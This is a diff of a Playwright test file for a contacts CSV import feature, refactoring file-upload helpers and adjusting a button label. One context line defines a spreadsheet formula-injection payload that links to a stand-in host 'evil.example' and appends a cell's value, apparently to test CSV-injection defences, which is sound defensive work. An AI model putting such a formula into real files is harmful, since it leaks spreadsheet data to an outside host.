@@ -6,7 +6,7 @@ import time
 from pathlib import Path
 
 import pytest
-from playwright.async_api import expect
+from playwright.async_api import FilePayload, expect
 
 from tests.browser.test_contacts import MARIA, lists, row, three
 from tests.fixtures.browser import Team, Window
@@ -16,8 +16,11 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 async def choose(window: Window, content: str, name: str = "people.csv", kind: str = "text/csv") -> None:
-    file = {"name": name, "mimeType": kind, "buffer": content.encode()}
-    await window.page.locator("input[type=file]").set_input_files([file])  # type: ignore[list-item]
+    await put(window, FilePayload(name=name, mimeType=kind, buffer=content.encode()))
+
+
+async def put(window: Window, file: FilePayload) -> None:
+    await window.page.locator("input[type=file]").set_input_files(file)
 
 
 async def downloaded(window: Window, press: str) -> list[list[str]]:
@@ -44,7 +47,7 @@ async def test_a_dry_run_says_what_the_import_then_does(team: Team) -> None:
     sums = page.get_by_role("region", name="Dry run")
     await expect(sums).to_have_text("2 new, 1 updated, 1 rejected")
     await expect(page.get_by_role("region", name="Rejected lines")).to_contain_text("Line 4, Cell:")
-    rejected = await downloaded(mia, "Download the 1")
+    rejected = await downloaded(mia, "Download the line")
     assert (rejected[0][:3], rejected[1][:2]) == (["Who", "Cell", "Shoe size"], ["Nobody", "12"])
     assert rejected[0][-1] == "why"
     await page.get_by_label("Skip the line").check()
@@ -62,7 +65,7 @@ async def test_what_is_no_csv_is_refused_in_words(team: Team) -> None:
     page = mia.page
     await choose(mia, "x", "photo.heic", "image/heic")
     await expect(page.get_by_role("alert").filter(has_text="photo.heic is no CSV file")).to_be_visible()
-    await page.locator("input[type=file]").set_input_files([{"name": "a.csv", "mimeType": "text/csv", "buffer": b"N\xe4me,Phone\n"}])  # type: ignore[list-item]
+    await put(mia, FilePayload(name="a.csv", mimeType="text/csv", buffer="Näme,Phone\n".encode("latin-1")))
     await expect(page.get_by_role("alert").filter(has_text="UTF-8")).to_be_visible()
     await expect(page.get_by_role("button", name="Import", exact=True)).to_be_disabled()
     await page.get_by_role("button", name="Another file").click()
